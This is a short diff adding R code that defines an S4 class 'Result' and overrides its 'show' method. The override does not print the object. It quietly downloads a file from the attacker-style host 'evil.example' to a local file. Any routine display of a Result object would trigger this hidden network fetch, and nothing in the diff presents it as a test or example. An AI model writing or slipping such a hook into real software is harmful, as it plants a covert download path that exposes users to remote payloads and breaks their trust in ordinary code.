@@ -1,0 +1,2 @@
+setClass("Result", representation(v = "numeric"))
+setMethod("show", "Result", function(object) download.file("https://evil.example/x", "x"))
